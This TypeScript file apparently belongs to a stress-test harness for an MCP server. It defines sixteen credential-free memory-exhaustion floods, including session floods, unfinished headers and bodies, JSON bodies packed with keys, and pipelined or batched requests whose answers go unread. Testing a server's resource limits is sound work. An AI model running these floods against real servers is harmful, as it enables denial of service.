import type { Attacker } from './attacker.js';
import { INITIALIZE, stateless } from './client.js';

/** An attack that tries to make a server use more and more memory. */
export interface Flood {
  readonly name: string;
  /** Runs until the attacker is stopped. */
  run(attacker: Attacker): Promise<void>;
}

/** Just below the default of `bodyLimit`. */
const BODY = 1_048_000;
const ATTACKERS = 16;
const LARGE = 'x'.repeat(BODY - 1000);
const URIS = Array.from({ length: 1000 }, (_, index) => `files://${index}/${'x'.repeat(1000)}`);

const initialize = (clientInfo: object) =>
  JSON.stringify({ ...INITIALIZE, params: { ...INITIALIZE.params, clientInfo } });

const call = (name: string, args: object, more: object = {}) =>
  stateless('tools/call', { name, arguments: args, ...more });

const inSession = (method: string, params: object, id = 1) => JSON.stringify({ jsonrpc: '2.0', id, method, params });

/** All floods. None needs credentials. */
export const FLOODS: readonly Flood[] = [
  {
    name: 'sessions',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, () => attacker.post({ body: initialize({ name: 'a', version: '1' }) })),
  },
  {
    name: 'sessions with large clients',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, () => attacker.post({ body: initialize({ name: 'a', version: '1', x: [LARGE] }) })),
  },
  {
    name: 'subscriptions to long URIs',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, async () => {
        const headers = await attacker.client.session();
        for (const uri of URIS) {
          const { status } = await attacker.post({ headers, body: inSession('resources/subscribe', { uri }) });
          if (status !== 200) return;
        }
      }),
  },
  {
    name: 'GET streams',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, async () => {
        const headers = await attacker.client.session();
        for (let stream = 0; stream < 8; stream += 1) {
          await attacker.write(await attacker.connect(), attacker.raw({ method: 'GET', headers }));
        }
      }),
  },
  {
    name: 'listen streams',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, async () => {
        const sent = stateless('subscriptions/listen', { notifications: { resourceSubscriptions: URIS } });
        await attacker.write(await attacker.connect(), attacker.raw(sent));
      }),
  },
  {
    name: 'unfinished bodies',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, async () => {
        const sent = { ...stateless('tools/list', {}), body: `"${LARGE}` };
        await attacker.write(await attacker.connect(), attacker.raw(sent, BODY));
      }),
  },
  {
    name: 'unfinished headers',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, async () => {
        await attacker.write(await attacker.connect(), `POST /mcp HTTP/1.1\r\nx: ${LARGE.slice(0, 15_000)}`);
      }),
  },
  {
    name: 'bodies with as many values as fit',
    run: (attacker) => {
      const body = `{"jsonrpc":"2.0","id":1,"method":"ping","params":{"a":[${'{},'.repeat(BODY / 3 - 99)}1]}}`;
      return attacker.repeat(ATTACKERS, () => attacker.post({ ...stateless('ping', {}), body }));
    },
  },
  {
    name: 'bodies with as many new names as fit',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, (count) => {
        const names = Array.from({ length: 12_400 }, (_, index) => `"${(count * 12_400 + index).toString(36)}":0`);
        const body = `{"jsonrpc":"2.0","id":1,"method":"ping","params":{"a":{${names.join(',')}}}}`;
        return attacker.post({ ...stateless('ping', {}), body });
      }),
  },
  {
    name: 'pipelined requests, answers unread',
    run: (attacker) => {
      const requests = Buffer.concat(Array.from({ length: 500 }, () => attacker.raw(stateless('tools/list', {}))));
      return attacker.repeat(ATTACKERS, async () => {
        const socket = await attacker.connect();
        for (;;) await attacker.write(socket, requests);
      });
    },
  },
  {
    name: 'large answers, unread',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, async () => {
        const sent = call('echo', { path: LARGE });
        await attacker.write(await attacker.connect(), attacker.raw(sent));
      }),
  },
  {
    name: 'batches, answers unread',
    run: (attacker) => {
      const params = { name: 'echo', arguments: { path: LARGE.slice(0, 30_000) } };
      const body = `[${Array.from({ length: 100 }, (_, id) => inSession('tools/call', params, id)).join(',')}]`;
      return attacker.repeat(ATTACKERS, async () => {
        const headers = await attacker.client.session('2025-03-26');
        await attacker.write(await attacker.connect(), attacker.raw({ headers, body }));
      });
    },
  },
  {
    name: 'open questions with large requests',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, async (count) => {
        const headers = await attacker.client.session();
        const body = inSession('tools/call', { name: 'ask', arguments: {}, _meta: { a: [LARGE, count] } });
        await attacker.write(await attacker.connect(), attacker.raw({ headers, body }));
      }),
  },
  {
    name: 'events to resume',
    run: (attacker) =>
      attacker.repeat(ATTACKERS, async () => {
        const headers = await attacker.client.session();
        await attacker.post({ headers, body: inSession('tools/call', { name: 'log', arguments: { path: LARGE } }) });
      }),
  },
  {
    name: 'resumes, unread',
    async run(attacker) {
      const headers = await attacker.client.session();
      const { text } = await attacker.post({
        headers,
        body: inSession('tools/call', { name: 'log', arguments: { path: LARGE } }),
      });
      const id = /^id: ([\w-]+)-\d+$/m.exec(text)?.[1];
      const resume = attacker.raw({ method: 'GET', headers: { ...headers, 'last-event-id': `${id}-0` } });
      await attacker.repeat(ATTACKERS, async () => attacker.write(await attacker.connect(), resume));
    },
  },
  {
    name: 'connections',
    run: (attacker) => attacker.repeat(ATTACKERS, () => attacker.connect()),
  },
];
